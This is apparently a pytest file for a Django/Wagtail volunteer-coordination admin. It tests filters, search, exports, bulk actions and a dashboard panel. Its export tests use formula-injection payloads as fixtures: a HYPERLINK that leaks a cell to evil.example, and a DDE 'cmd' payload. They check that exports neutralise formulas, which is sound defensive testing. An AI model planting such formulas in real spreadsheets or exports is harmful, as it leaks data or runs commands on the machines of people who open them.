"""The coordinators' workspace: listing, filters, search, export, bulk actions, notes, panel."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.text import capfirst
from wagtail.models import ModelLogEntry
from wagtail.search.index import class_is_indexed
from wagtail.search.models import IndexEntry

from tests import factories
from tests.volunteering.support import bulk_url, viewset_url
from wagtail_integration.submissions.models import DataProtectionLog, Notification
from wagtail_integration.volunteering.models import (
    Status,
    VolunteerInterest,
    VolunteerNote,
)
from wagtail_integration.volunteering.panels import OffersPanel, month_starts

pytestmark = pytest.mark.django_db

# -- helpers shared with test_permissions ----------------------------------------------------


# -- fixtures --------------------------------------------------------------------------------


@pytest.fixture
def coordinator():
    return factories.coordinator(first_name="Clara", last_name="Koordinatorin")


@pytest.fixture
def coordinator_client(client, coordinator):
    client.force_login(coordinator)
    return client


def listed_names(response):
    return [offer.name for offer in response.context["object_list"]]


# -- the listing -----------------------------------------------------------------------------


def test_the_listing_shows_name_status_languages_interests_district_coordinator_and_date(
    coordinator_client, coordinator
):
    topic = factories.topic(slug="sprache", name="Sprachpatenschaft")
    factories.volunteer_interest(
        languages=[("ar", "fluent")],
        interests=[topic],
        district="Lützel",
        assigned_to=coordinator,
    )
    with translation.override("en"):
        response = coordinator_client.get(viewset_url("list"), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    html = response.content.decode()
    # Languages named in the admin's language (English here), not in their own.
    for text in ["Erika Beispiel", "Arabic (fluent)", "Sprachpatenschaft", "Lützel", "Clara"]:
        assert text in html
    assert re.search(r"<td >\s*new\s*</td>", html)
    for heading in ["Name", "Status", "Languages", "Interests", "Coordinator", "Received"]:
        assert re.search(rf">\s*{heading}\s*<", html)


def test_the_german_listing_names_the_date_received_and_who_declined_an_offer(
    coordinator_client,
):
    factories.volunteer_interest(status=Status.DECLINED)
    with translation.override("de"):
        response = coordinator_client.get(viewset_url("list"), HTTP_ACCEPT_LANGUAGE="de")
    html = response.content.decode()
    # "received" as a date is not the status "eingegangen"; "declined" says by whom.
    assert re.search(r">\s*Eingegangen am\s*<", html)
    assert re.search(
        r"<td[^>]*>\s*(<[^>]*>\s*)*von der Koordination abgelehnt\s*(<[^>]*>\s*)*</td>", html
    )


@pytest.mark.parametrize(
    "query, expected",
    [
        ("status=contacted", ["Bernd"]),
        ("status=new&status=contacted", ["Bernd", "Anna"]),
        ("language=ar", ["Anna"]),
        ("interest=sprache", ["Bernd"]),
        ("availability=evenings", ["Anna"]),
        ("availability=weekends&availability=evenings", ["Bernd", "Anna"]),
        ("district=lütz", ["Bernd"]),
        ("received_from=2026-03-01&received_to=2026-03-31", ["Anna"]),
        ("assigned_to=", ["Bernd", "Anna"]),
        ("assigned_to=null", ["Anna"]),
    ],
)
def test_filters_narrow_the_offers_down(coordinator_client, coordinator, query, expected):
    topic = factories.topic(slug="sprache")
    anna = factories.volunteer_interest(
        "Anna A",
        languages=[("ar", "good")],
        available_evenings=True,
        created_at=timezone.make_aware(datetime.datetime(2026, 3, 10, 12)),
    )
    factories.volunteer_interest(
        "Bernd B",
        interests=[topic],
        available_weekends=True,
        district="Koblenz-Lützel",
        status=Status.CONTACTED,
        assigned_to=coordinator,
        created_at=timezone.make_aware(datetime.datetime(2026, 4, 10, 12)),
    )
    assert anna.status == Status.NEW
    response = coordinator_client.get(viewset_url("list") + "?" + query)
    assert response.status_code == 200
    assert [name.split()[0] for name in listed_names(response)] == expected


def test_the_coordinator_filter_finds_the_offers_of_one_coordinator(
    coordinator_client, coordinator
):
    factories.volunteer_interest("Anna A")
    factories.volunteer_interest("Bernd B", assigned_to=coordinator)
    response = coordinator_client.get(viewset_url("list") + f"?assigned_to={coordinator.pk}")
    assert listed_names(response) == ["Bernd B"]


@pytest.mark.parametrize("query", ["anna", "ANNA@EXAMPLE", "altstadt", "donnerstags"])
def test_search_finds_offers_by_name_email_district_and_message(coordinator_client, query):
    factories.volunteer_interest("Anna A", district="Altstadt", message="Ich kann donnerstags.")
    factories.volunteer_interest("Bernd B", district="Lützel")
    response = coordinator_client.get(viewset_url("list") + f"?q={query}")
    assert listed_names(response) == ["Anna A"]


def test_search_uses_no_search_index_so_no_personal_data_lands_in_its_tables(coordinator_client):
    assert not class_is_indexed(VolunteerInterest)
    factories.volunteer_interest("Anna Indexfrei")
    coordinator_client.get(viewset_url("list") + "?q=Indexfrei")
    content_type = ContentType.objects.get_for_model(VolunteerInterest)
    assert not IndexEntry.objects.filter(content_type=content_type).exists()


# -- export ----------------------------------------------------------------------------------


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_export_neutralises_formula_cells_and_is_logged(coordinator_client, coordinator):
    factories.volunteer_interest(
        "Anna A", message=HOSTILE, district="+49 Lützel", availability_note="@SUM(1)"
    )
    factories.volunteer_interest("Bernd B", phone="-1", experience="\tTab")
    response = coordinator_client.get(viewset_url("list") + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert "'+49 Lützel" in cells
    assert "'@SUM(1)" in cells
    assert "-1" in cells  # a number, or a phone number, cannot do harm as a formula
    assert "'\tTab" in cells
    assert not any(cell[:1] in "=@\t\r" for cell in cells if cell)
    entry = DataProtectionLog.objects.get()
    assert entry.action == DataProtectionLog.Action.SPREADSHEET
    assert (entry.user, entry.count, entry.via) == (coordinator, 2, "admin")
    assert "Anna" not in entry.subject


def test_xlsx_export_writes_formula_like_text_as_text_and_is_logged(
    coordinator_client, coordinator
):
    factories.volunteer_interest(
        "=cmd|' /C calc'!A0", message=HOSTILE, languages=[("de", "native")]
    )
    response = coordinator_client.get(viewset_url("list") + "?export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    # Text cells of an XLSX file are never calculated: written as text, without an apostrophe.
    assert HOSTILE in values
    assert "=cmd|' /C calc'!A0" in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    entry = DataProtectionLog.objects.get()
    assert (entry.action, entry.user, entry.count) == ("spreadsheet", coordinator, 1)


def test_the_export_follows_the_filters(coordinator_client):
    factories.volunteer_interest("Anna A", status=Status.ACTIVE)
    factories.volunteer_interest("Bernd B")
    response = coordinator_client.get(viewset_url("list") + "?status=active&export=csv")
    body = b"".join(response.streaming_content).decode()
    assert "Anna A" in body and "Bernd B" not in body
    assert DataProtectionLog.objects.get().count == 1


# -- bulk actions ----------------------------------------------------------------------------


def test_a_bulk_status_change_saves_each_offer_with_its_status_time(coordinator_client):
    first, second = factories.volunteer_interest("Anna A"), factories.volunteer_interest("Bernd B")
    url = bulk_url("change_status", first, second)
    assert coordinator_client.get(url).status_code == 200
    response = coordinator_client.post(url, {"status": Status.CONTACTED})
    assert response.status_code == 302
    for offer in (first, second):
        offer.refresh_from_db()
        assert offer.status == Status.CONTACTED
        assert offer.contacted_at is not None
        assert offer.status_changed_at is not None


def test_a_bulk_assignment_assigns_a_coordinator_and_can_unassign(coordinator_client, coordinator):
    first, second = factories.volunteer_interest("Anna A"), factories.volunteer_interest("Bernd B")
    url = bulk_url("assign", first, second)
    coordinator_client.post(url, {"coordinator": coordinator.pk})
    assert set(VolunteerInterest.objects.values_list("assigned_to", flat=True)) == {coordinator.pk}
    coordinator_client.post(url, {"coordinator": ""})
    assert set(VolunteerInterest.objects.values_list("assigned_to", flat=True)) == {None}


def test_only_coordinators_and_superusers_can_be_assigned(coordinator_client):
    outsider = get_user_model().objects.create_user("outsider", "o@example.org", "pw")
    boss = get_user_model().objects.create_superuser("boss", "b@example.org", "pw")
    offer = factories.volunteer_interest()
    response = coordinator_client.get(bulk_url("assign", offer))
    choices = {str(pk) for pk, _label in response.context["form"].fields["coordinator"].choices}
    assert str(boss.pk) in choices
    assert str(outsider.pk) not in choices
    response = coordinator_client.post(bulk_url("assign", offer), {"coordinator": outsider.pk})
    assert response.status_code == 200
    offer.refresh_from_db()
    assert offer.assigned_to is None


# -- edit and inspect ------------------------------------------------------------------------


def edit_data(offer, **changes):
    """The edit form of ``offer`` as the browser sends it, with ``changes``."""
    data = {
        "status": offer.status,
        "assigned_to": offer.assigned_to_id or "",
        "delete_after": offer.delete_after.isoformat(),
        "name": offer.name,
        "email": offer.email,
        "phone": offer.phone,
        "contact_channel": offer.contact_channel,
        "district": offer.district,
        "availability_note": "",
        "experience": "",
        "message": offer.message,
        "notes-TOTAL_FORMS": "0",
        "notes-INITIAL_FORMS": "0",
        "notes-MIN_NUM_FORMS": "0",
        "notes-MAX_NUM_FORMS": "1000",
        "languages-TOTAL_FORMS": "0",
        "languages-INITIAL_FORMS": "0",
        "languages-MIN_NUM_FORMS": "0",
        "languages-MAX_NUM_FORMS": "1000",
    }
    data.update(changes)
    return data


def test_a_new_note_gets_the_current_user_as_author_and_status_times_are_set(
    coordinator_client, coordinator
):
    offer = factories.volunteer_interest()
    data = edit_data(
        offer,
        status=Status.CONTACTED,
        assigned_to=coordinator.pk,
        **{"notes-TOTAL_FORMS": "1", "notes-0-text": "Angerufen, meldet sich.", "notes-0-id": ""},
    )
    response = coordinator_client.post(viewset_url("edit", offer.pk), data)
    assert response.status_code == 302, response.content.decode()[:2000]
    offer.refresh_from_db()
    assert offer.status == Status.CONTACTED and offer.contacted_at is not None
    assert offer.assigned_to == coordinator
    note = VolunteerNote.objects.get()
    assert (note.interest, note.author) == (offer, coordinator)
    assert note.text == "Angerufen, meldet sich."


def test_an_offer_entered_by_a_coordinator_is_marked_as_entered_in_the_admin(coordinator_client):
    offer = VolunteerInterest(name="", status=Status.NEW, delete_after=datetime.date(2030, 1, 1))
    data = edit_data(offer, name="Per Telefon", email="tel@example.org", status=Status.CONTACTED)
    response = coordinator_client.post(viewset_url("add"), data)
    assert response.status_code == 302, response.content.decode()[:2000]
    created = VolunteerInterest.objects.get()
    assert (created.name, created.source, created.language) == ("Per Telefon", "admin", "de")
    assert created.contacted_at is not None


def test_the_edit_form_offers_only_coordinators_for_assignment(coordinator_client, coordinator):
    get_user_model().objects.create_user("outsider", "o@example.org", "pw")
    offer = factories.volunteer_interest()
    response = coordinator_client.get(viewset_url("edit", offer.pk))
    assert response.status_code == 200
    queryset = response.context["form"].fields["assigned_to"].queryset
    assert list(queryset) == [coordinator]


def test_wagtails_audit_log_names_an_offer_by_number_not_by_name(coordinator_client):
    offer = factories.volunteer_interest("Anna Geheim")
    coordinator_client.post(viewset_url("edit", offer.pk), edit_data(offer, status="matched"))
    coordinator_client.post(bulk_url("change_status", offer), {"status": "active"})
    coordinator_client.post(viewset_url("delete", offer.pk))
    assert not VolunteerInterest.objects.exists()
    labels = set(ModelLogEntry.objects.values_list("label", flat=True))
    assert labels and not any("Geheim" in label for label in labels)


def test_the_inspect_view_shows_notes_privacy_notice_and_outbox(
    coordinator_client, coordinator, django_capture_on_commit_callbacks
):
    page = factories.volunteer_form_page()
    with django_capture_on_commit_callbacks(execute=True):
        coordinator_client.post(page.url, factories.volunteer_post_data(page))
    offer = VolunteerInterest.objects.get()
    VolunteerNote.objects.create(interest=offer, author=coordinator, text="Erstgespräch am Montag")
    response = coordinator_client.get(viewset_url("inspect", offer.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Erstgespräch am Montag" in html
    assert "Clara Koordinatorin" in html
    assert offer.privacy_notice.short_id in html
    assert Notification.objects.for_object(offer).count() == 2
    # Each e-mail named by what it is, not by its code.
    assert "volunteer." not in html
    with translation.override("de"):
        kinds = VolunteerInterest.snippet_viewset.inspect_view_class.notification_kinds
        for kind in ("volunteer.coordinator", "volunteer.confirmation"):
            assert capfirst(str(kinds[kind])) in html


# -- the dashboard panel ---------------------------------------------------------------------


def test_the_dashboard_panel_counts_offers_per_status_and_month(coordinator_client):
    now = timezone.now()
    factories.volunteer_interest("Anna A")
    factories.volunteer_interest("Bernd B", status=Status.ACTIVE)
    factories.volunteer_interest(
        "Cem C", status=Status.ACTIVE, created_at=now - datetime.timedelta(days=400)
    )
    panel = OffersPanel()
    context = panel.get_context_data({})
    statuses = {value: count for value, _label, count in context["statuses"]}
    assert statuses == {
        "new": 1,
        "contacted": 0,
        "matched": 0,
        "active": 2,
        "inactive": 0,
        "declined": 0,
    }
    assert len(context["months"]) == 12
    assert context["months"][-1]["count"] == 2
    assert context["total_months"] == 2
    response = coordinator_client.get(reverse("wagtailadmin_home"))
    html = response.content.decode()
    assert 'id="integration-offers-panel-section"' in html
    assert 'role="img"' in html


def test_the_dashboard_panel_needs_one_query_per_part_whatever_the_number_of_offers():
    for number in range(30):
        factories.volunteer_interest(f"Person {number}", status=list(Status)[number % 6])
    with CaptureQueriesContext(connection) as queries:
        OffersPanel().get_context_data({})
    assert len(queries) == 2


def test_month_starts_go_back_across_the_turn_of_the_year():
    starts = month_starts(datetime.date(2026, 2, 17))
    assert starts[0] == datetime.date(2025, 3, 1)
    assert starts[-1] == datetime.date(2026, 2, 1)
    assert len(starts) == 12
